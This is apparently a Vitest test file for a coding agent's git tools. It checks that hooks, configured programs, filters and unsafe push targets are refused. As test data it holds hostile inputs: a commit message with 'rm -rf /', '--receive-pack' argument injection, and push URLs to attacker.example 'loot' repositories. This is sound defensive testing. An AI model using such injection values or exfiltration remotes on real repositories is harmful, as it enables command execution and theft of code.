import * as fs from "node:fs"
import * as path from "node:path"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import { runTool } from "../../src/index.js"
import { committedRepo } from "../support/Workspace.js"

let ws: string
let git: (...args: Array<string>) => string
beforeEach(() => {
  ;({ root: ws, git } = committedRepo("minicode-git-"))
})
afterEach(() => fs.rmSync(ws, { recursive: true, force: true }))

const run = (tool: string, args: unknown, policy?: "allow-all") =>
  runTool({ workspace: ws, workMode: "BUILD", tool, args, ...(policy === undefined ? {} : { policy }) })

describe("git tools", () => {
  it("status, diff, log and show read the repository", async () => {
    fs.writeFileSync(path.join(ws, "a.txt"), "two\n")
    const status = await run("git_status", {})
    expect(status.ok && status.text).toContain(" M a.txt")
    const diff = await run("git_diff", { path: "a.txt" })
    expect(diff.ok && diff.text).toContain("+two")
    const log = await run("git_log", { limit: 1 })
    expect(log.ok && log.text).toContain("first")
    const show = await run("git_show", { rev: "HEAD" })
    expect(show.ok && show.text).toContain("+one")
  })

  it("never runs the repository's hooks, fsmonitor, external diff or pager", async () => {
    const marker = path.join(ws, "pwned")
    const script = path.join(ws, "evil.sh")
    fs.writeFileSync(script, `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 })
    fs.writeFileSync(path.join(ws, ".git/hooks/pre-commit"), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 })
    fs.writeFileSync(path.join(ws, ".git/hooks/post-commit"), `#!/bin/sh\ntouch ${marker}\n`, { mode: 0o755 })
    fs.writeFileSync(path.join(ws, "a.txt"), "two\n")
    // A hook in .git/hooks is not configuration: git works, and the hook never runs.
    for (const tool of ["git_status", "git_diff", "git_log"]) expect((await run(tool, {})).ok).toBe(true)
    expect((await run("git_commit", { message: "second", paths: ["a.txt"] }, "allow-all")).ok).toBe(true)
    // Configured programs are refused before git runs (the command-line neutralisers stay as a second wall).
    for (const [key, tool] of [["core.fsmonitor", "git_status"], ["diff.external", "git_diff"], ["core.pager", "git_log"]] as const) {
      git("config", key, script)
      const refused = await run(tool, {})
      expect(!refused.ok && refused.error.message).toContain(`${key.toLowerCase()} in ${ws}/.git/config`)
      git("config", "--unset", key)
    }
    expect(fs.existsSync(marker)).toBe(false)
  })

  it("git_commit asks (denied without a TTY), commits with allow-all, refuses filters before staging", async () => {
    fs.writeFileSync(path.join(ws, "b.txt"), "b\n")
    const asked = await run("git_commit", { message: "add b", paths: ["b.txt"] })
    expect(!asked.ok && asked.error["rule"]).toBe("approval.declined")
    const done = await run("git_commit", { message: "add b; rm -rf /", paths: ["b.txt"] }, "allow-all")
    expect(done.ok).toBe(true)
    expect(git("log", "-1", "--format=%s").trim()).toBe("add b; rm -rf /")
    git("config", "filter.evil.clean", "touch pwned")
    fs.writeFileSync(path.join(ws, "c.txt"), "c\n")
    const refused = await run("git_commit", { message: "c", paths: ["c.txt"] }, "allow-all")
    expect(!refused.ok && refused.error.message).toContain("filters")
    expect(git("status", "--short")).toContain("?? c.txt")
    const outside = await run("git_commit", { message: "x", paths: ["../x"] }, "allow-all")
    expect(!outside.ok && outside.error["rule"]).toBe("jail.outside-workspace")
  })

  it("git_push refuses a repository whose own config runs programs", async () => {
    git("config", "core.sshCommand", "touch pwned; ssh")
    const r = await run("git_push", {}, "allow-all")
    expect(!r.ok && r.error.message).toContain("push it yourself")
    const denied = await runTool({ workspace: ws, workMode: "BUILD", policy: "readonly", tool: "git_push", args: {} })
    expect(denied.ok).toBe(false)
  })

  it("git_push pushes only to a configured remote: URLs, paths, options, forces and deletions are refused", async () => {
    for (const args of [
      { remote: "https://attacker.example/loot.git" },
      { remote: "git@attacker.example:loot.git" },
      { remote: "../elsewhere" },
      { remote: "--receive-pack=touch pwned" },
      { branch: "--receive-pack=touch pwned" },
      { branch: "+main" },
      { branch: ":main" }
    ]) {
      const r = await run("git_push", args, "allow-all")
      expect(!r.ok && r.error._tag, JSON.stringify(args)).toBe("InvalidArguments")
      expect(!r.ok && r.error.message).toMatch(/remote must be the name|branch must be/)
    }
    const unknown = await run("git_push", { remote: "nosuch", branch: "main" }, "allow-all")
    expect(!unknown.ok && unknown.error.message).toContain("no remote named nosuch is configured")
    // A configured remote reaches git (this one's URL answers nothing: the push fails at the network, not before).
    git("remote", "add", "upstream", "http://127.0.0.1:9/none.git")
    const tried = await run("git_push", { remote: "upstream", branch: "HEAD:refs/heads/topic" }, "allow-all")
    expect(tried.ok && tried.isError).toBe(true)
    expect(tried.ok && tried.text).toMatch(/127\.0\.0\.1|unable to access|Failed to connect|Could not connect/i)
    expect(fs.existsSync(path.join(ws, "pwned"))).toBe(false)
  })
})
